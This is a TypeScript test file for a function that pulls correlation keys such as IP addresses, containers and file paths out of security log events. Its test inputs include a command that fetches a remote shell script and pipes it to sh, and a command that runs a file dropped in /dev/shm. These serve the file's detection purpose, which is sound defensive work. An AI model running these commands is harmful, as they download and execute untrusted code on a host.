import { describe, expect, it } from 'vitest';
import type { FieldValue, WatchEvent } from '../core/event.js';
import { keysOf } from './keys-of.js';

function event(category: string, fields: Record<string, FieldValue>): WatchEvent {
  const source = { sensor: 't', name: 't', cursor: '1' };
  return { time: new Date(0), logsource: { product: null, category, service: null }, fields, raw: '', source };
}

const keys = (category: string, fields: Record<string, FieldValue>) =>
  keysOf(event(category, fields), {}).map(({ type, value }) => `${type}:${value}`);

describe('keysOf', () => {
  it.each<[string, string, Record<string, FieldValue>, string[]]>([
    ['a request', 'webserver', { 'source.ip': '203.0.113.7' }, ['address:203.0.113.7']],
    [
      'a program in a container',
      'process_creation',
      { 'container.name': 'a', 'process.pid': 7, 'process.parent.pid': 1 },
      ['container:a', 'process:a/7'],
    ],
    [
      'a command that fetches',
      'process_creation',
      { 'process.command_line': 'wget -qO- http://51.81.104.115/1.sh | sh' },
      ['address:51.81.104.115'],
    ],
    [
      'a line of the app that names the same server',
      'application',
      { message: 'Command failed: (wget -qO- http://51.81.104.115/1.sh) | sh' },
      ['address:51.81.104.115'],
    ],
    [
      'a dropped file',
      'process_creation',
      { 'process.command_line': 'chmod +x /dev/shm/x && /dev/shm/x' },
      ['path:/dev/shm/x'],
    ],
  ])('%s', (_, category, fields, expected) => {
    expect([...new Set(keys(category, fields))]).toEqual(expected);
  });

  it.each<[string, string, Record<string, FieldValue>]>([
    ['loopback', 'webserver', { 'source.ip': '127.0.0.1' }],
    ['everyday accounts', 'application', { 'user.name': 'root' }],
    ['everyday programs', 'process_creation', { 'process.command_line': '/usr/bin/ffprobe -v error /usr/share/x' }],
    ['nothing', 'application', {}],
  ])('joins nothing by %s', (_, category, fields) => {
    expect(keys(category, fields)).toEqual([]);
  });
});
